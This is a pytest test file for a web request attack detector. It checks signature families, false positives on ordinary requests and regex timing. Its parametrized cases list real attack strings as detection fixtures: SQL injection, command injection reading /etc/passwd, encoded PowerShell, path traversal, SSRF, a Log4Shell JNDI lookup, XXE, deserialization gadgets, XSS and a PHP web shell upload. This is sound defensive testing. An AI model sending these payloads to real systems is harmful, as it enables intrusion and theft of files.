"""Families of signs: examples are found, ordinary requests pass, words are there in both languages."""

import re
import time

import pytest

from detections.web import parts
from detections.web.families import BAR, Family, Sign, families, signs
from detections.web.judging import charges
from detections.web.matcher import all_seen
from detections.web.parts import Part
from tests.detections.web.ordinary import Request, requests

SHOWN = [(sign, text) for sign in signs().values() for text in sign.examples]


@pytest.mark.parametrize(("sign", "text"), SHOWN, ids=[f"{sign.name}-{text}" for sign, text in SHOWN])
def test_an_example_shows_its_sign(sign: Sign, text: str) -> None:
    place = next(iter(sign.within & {"value", "path", "name", "agent"}), "value")
    seen = all_seen([Part(place, "", text)])
    assert sign.name in seen
    if sign.weight >= BAR:
        assert sign.family in [charge.family.id for charge in charges(seen.values())]


@pytest.mark.parametrize("family", families().values(), ids=families())
def test_a_family_says_what_to_do(family: Family) -> None:
    said = [family.title, family.advice, *(sign.shows for sign in family.signs)]
    assert all(text.zh and text.en for text in said)
    assert all(re.fullmatch(r"T\d{4}(\.\d{3})?", one) for one in family.technique)
    assert any(sign.examples or not sign.patterns for sign in family.signs) or family.signs


def parts_of(request: Request) -> list[Part]:
    found = [*parts.of_url(request.target), Part("agent", "", request.agent, form=False)]
    found += parts.of_referrer(request.referrer) if request.referrer else []
    return [*found, *(parts.of_body(request.body, request.mime_type) if request.body else [])]


def test_ordinary_requests_are_no_attacks() -> None:
    asked = list(requests())
    assert len(asked) > 500
    charged = {
        request: [charge.family.id for charge in found]
        for request in asked
        if (found := charges(all_seen(parts_of(request)).values()))
    }
    assert charged == {}


@pytest.mark.parametrize(
    ("target", "family"),
    [
        ("/item?id=-1%27%20UnIoN/**/SeLeCt%201,concat(user,0x3a,pass),3--+-", "sqli"),
        ("/item?id=1%20and%20(select%201%20from(select%20sleep(3))x)", "sqli"),
        ("/login?user=admin%2527%2520or%25201%253D1--", "sqli"),
        ("/ping?ip=127.0.0.1%3bc%27%27at${IFS}/etc/passwd", "rce_unix"),
        ("/run?x=%26%20powershell%20-enc%20SQBFAFgA", "rce_windows"),
        ("/view?page=....//....//....//etc/passwd", "lfi"),
        ("/static/%c0%ae%c0%ae/%c0%ae%c0%ae/windows/win.ini", "lfi"),
        ("/fetch?u=http://2130706433/admin", "ssrf"),
        ("/x?a=${${::-j}${::-n}${::-d}${::-i}:ldap://192.0.2.1/a}", "log4shell"),
        ("/greet?name={{''.__class__.__mro__[1].__subclasses__()}}", "code"),
        ("/s?q=%3Csvg/onload%3Dalert%281%29%3E", "xss"),
        ("/s?q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "xss"),
        ("/a?x=php://filter/convert.base64-encode/resource=index.php", "lfi"),
        ("/.git/config", "sensitive_file"),
        ("/wwwroot.zip", "sensitive_file"),
        ("/a?u=%0d%0aSet-Cookie:%20a=b", "protocol"),
        ("/a?user[$ne]=x", "nosqli"),
        ("/uploads/c99.php", "web_shell"),
    ],
)
def test_attacks_in_an_address(target: str, family: str) -> None:
    found = charges(all_seen(parts.of_url(target)).values())
    assert family in [charge.family.id for charge in found]


@pytest.mark.parametrize(
    ("body", "mime_type", "family"),
    [
        ('{"a":{"b":["1\' or \'1\'=\'1"]}}', "application/json", "sqli"),
        ('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', "text/xml", "xxe"),
        ('{"@type":"com.sun.rowset.JdbcRowSetImpl","x":1}', "application/json", "deserialization"),
        (
            "data=O:8:%22Example1%22:1:{s:1:%22a%22;i:1;}",
            "application/x-www-form-urlencoded",
            "deserialization",
        ),
        (
            '--x12345678\r\nContent-Disposition: form-data; name="f"; filename="a.php.jpg"\r\n\r\n'
            "<?php system($_GET[0]);\r\n--x12345678--",
            "multipart/form-data",
            "web_shell",
        ),
    ],
)
def test_attacks_in_a_body(body: str, mime_type: str, family: str) -> None:
    found = charges(all_seen(parts.of_body(body, mime_type)).values())
    assert family in [charge.family.id for charge in found]


@pytest.mark.parametrize(
    "piece", ["select ", "' or ", "<a ", "$(", "../", "{{", "if %a==", "a=", "((", "chr(1)."]
)
def test_no_value_takes_long(piece: str) -> None:
    before = time.process_time()
    all_seen([Part("value", "", piece * 20_000)])
    assert time.process_time() - before < 1
